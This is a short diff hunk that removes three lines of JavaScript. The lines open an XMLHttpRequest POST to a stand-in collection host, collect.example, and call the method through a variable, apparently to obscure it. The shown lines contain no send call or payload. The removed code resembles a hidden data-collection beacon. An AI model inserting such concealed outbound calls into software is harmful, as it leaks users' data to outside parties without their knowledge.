@@ -1,3 +1,0 @@
-const m = "open";
-const xhr = new XMLHttpRequest();
-xhr[m]("POST", "https://collect.example/x");
